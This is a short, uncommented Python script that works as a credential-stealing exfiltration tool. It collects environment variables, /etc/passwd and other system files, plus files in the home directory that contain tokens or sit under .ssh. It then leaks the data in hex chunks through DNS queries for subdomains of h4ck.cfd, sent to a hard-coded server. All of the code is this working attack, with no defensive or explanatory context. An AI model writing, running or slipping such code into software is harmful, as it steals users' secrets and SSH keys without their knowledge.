import os, socket, struct

def ask(name, server='203.0.113.53'):
    q = struct.pack('>6H', os.getpid() & 0xffff, 0x100, 1, 0, 0, 0)
    q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0' + struct.pack('>2H', 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(q, (server, 53))
    s.close()

loot, n = repr(dict(os.environ)).encode(), 0
for f in ('/etc/resolv.conf', '/etc/hosts', '/etc/passwd'):
    loot += open(f, 'rb').read()
for top, dirs, files in os.walk(os.path.expanduser('~')):
    for f in files:
        p = os.path.join(top, f)
        if n < 1000 and os.path.isfile(p) and os.path.getsize(p) < 100000:
            n += 1
            data = open(p, 'rb').read()
            if b'token' in data or '.ssh' in p:
                loot += data
for i in range(0, min(len(loot), 30 * 200), 30):
    ask(loot[i:i + 30].hex() + '.h4ck.cfd')
